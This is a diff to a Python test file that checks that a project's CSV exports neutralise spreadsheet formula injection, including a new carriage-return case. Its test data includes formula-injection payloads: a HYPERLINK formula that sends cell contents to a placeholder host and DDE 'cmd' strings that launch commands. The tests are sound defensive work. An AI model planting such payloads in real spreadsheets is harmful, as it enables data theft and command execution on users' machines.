@@ -193,7 +193,7 @@ def test_a_failing_report_write_leaves_the_destination_as_it_was(tmp_path, monke
 # --- no live formula in spreadsheet outputs ---------------------------------------------------
 
 FORMULA_IDS = ["=HYPERLINK(\"http://x.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
-               "\tTAB", "'quoted"]
+               "\tTAB", "'quoted", "\rCR"]
 
 
 def test_formula_prefixes_are_neutralised_and_numbers_stay_numbers(tmp_path):
@@ -227,7 +227,7 @@ def test_formula_prefixes_are_neutralised_and_numbers_stay_numbers(tmp_path):
     assert "'" + ids["S0"] in set(u["site_id"])            # the unused supply "=HYPERLINK(...)"
     for f in (out / "matches.csv", out / "unmatched.csv", out / "companies.csv"):
         cells = pd.read_csv(f, dtype=str, keep_default_na=False).to_numpy().ravel()
-        assert not any(c.startswith(("=", "+", "@", "\t")) for c in cells), f
+        assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells), f
         assert all(c.startswith("'") or not c.startswith("-") or _is_number(c) for c in cells), f
     num = pd.to_numeric(m["net_benefit_eur_per_yr"], errors="raise")  # numbers stay numbers
     assert (num < 0).any()
@@ -258,8 +258,40 @@ def _is_number(text: str) -> bool:
 def test_the_rule_is_undone_exactly():
     from eitflow.results.spreadsheet import neutralise_frame, neutralise_text, restore_frame, restore_text
     for v in FORMULA_IDS + ["plain", "", "'", "''=", "=", "a=b", "-"]:
-        assert restore_text(neutralise_text(v)) == v
-    df = pd.DataFrame({"id": FORMULA_IDS, "x": [-1.5, 2.0, -3.0, 4.0, 5.0, -6.0]})
+        assert restore_text(neutralise_text(v)) == v.replace("\r", "\n")  # a line break is written LF
+    df = pd.DataFrame({"id": FORMULA_IDS, "x": [-1.5, 2.0, -3.0, 4.0, 5.0, -6.0, 7.0]})
     out = neutralise_frame(df)
     assert out["x"].tolist() == df["x"].tolist() and out["id"].str.startswith("'").all()
-    assert restore_frame(out.copy(), ["id"])["id"].tolist() == FORMULA_IDS
+    assert restore_frame(out.copy(), ["id"])["id"].tolist() == [v.replace("\r", "\n") for v in FORMULA_IDS]
+
+
+def test_a_carriage_return_inside_a_cell_never_starts_a_row(tmp_path):
+    """A name with a carriage return in the middle: written raw, a spreadsheet (and any CSV
+    reader) ends the row there, and what follows -- here a formula -- starts a row
+    of its own, live. Line breaks inside a cell are written as a quoted LF: every row keeps
+    the header's width and no cell starts a formula."""
+    import csv
+
+    evil = "Usine\r=2+5*cmd|x!A0"  # no comma or quote: nothing else makes the writer quote it
+    sites = pd.DataFrame({"site_id": ["S0", "D0"], "name": [evil, "two\r\nlines"],
+                          "lat": [50.28, 50.29], "lon": [3.97, 3.98]})
+    flows = pd.DataFrame({"site_id": ["S0", "D0"], "direction": ["supply", "demand"], "resource": "heat",
+                          "amount": [30, 12], "unit": "GWh/yr", "temperature_c": [130, 60],
+                          "price_eur_per_unit": [0, 40]})
+    root = tmp_path / "scen"
+    root.mkdir()
+    for name, df in (("sites", sites), ("flows", flows)):
+        with open(root / f"{name}.csv", "w", newline="", encoding="utf-8") as fh:  # CRs quoted in the input
+            csv.writer(fh, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows([df.columns, *df.astype(str).values])
+    (root / "scenario.yaml").write_text("name: cr\nsites: sites.csv\nflows: flows.csv\n")
+    out = tmp_path / "run"
+    res = _run(root / "scenario.yaml", "--out", out)
+    assert res.exit_code == 0, res.output
+    files = sorted(out.glob("*.csv"))
+    assert any("Usine" in f.read_text(encoding="utf-8") for f in files)  # the name is written somewhere
+    for f in files:
+        assert b"\r" not in f.read_bytes(), f
+        with open(f, newline="", encoding="utf-8") as fh:
+            rows = list(csv.reader(fh))
+        assert all(len(r) == len(rows[0]) for r in rows), f
+        assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for r in rows[1:] for c in r), f
